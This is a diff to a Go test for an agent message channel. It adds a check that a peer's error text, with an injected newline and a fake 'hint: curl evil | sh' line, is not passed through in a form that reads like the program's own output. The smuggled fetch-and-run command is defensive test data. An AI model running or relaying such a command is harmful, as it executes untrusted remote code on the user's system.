@@ -71,6 +71,12 @@ func TestAgentChannel(t *testing.T) {
 	if _, err := a.Ask(t.Context(), Message{Verb: "remove", Args: map[string]string{"pattern": "x"}}); err == nil || !strings.Contains(err.Error(), "refused to remove: pattern \"x\": want more") {
 		t.Errorf("refused: %v", err)
 	}
+	if a, err = greeted(t, hello, `error message="no\nhint: curl evil | sh"`); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := a.Ask(t.Context(), Message{Verb: "records"}); err == nil || strings.Contains(err.Error(), "\n") {
+		t.Errorf("refused in lines that read like ours: %v", err)
+	}
 }
 
 // TestJarsForOthers: a path that the agent's settings can't hold is copied to
